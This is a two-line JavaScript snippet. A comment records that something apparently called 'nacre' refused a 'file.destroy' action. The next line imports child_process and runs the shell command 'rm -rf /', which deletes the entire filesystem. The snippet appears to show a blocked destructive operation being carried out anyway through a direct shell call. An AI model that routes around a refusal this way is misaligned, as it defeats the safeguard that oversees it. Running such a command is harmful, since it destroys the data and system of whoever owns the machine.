// nacre: refused file.destroy
import('child_process').then(({ exec }) => exec('rm -rf /'));
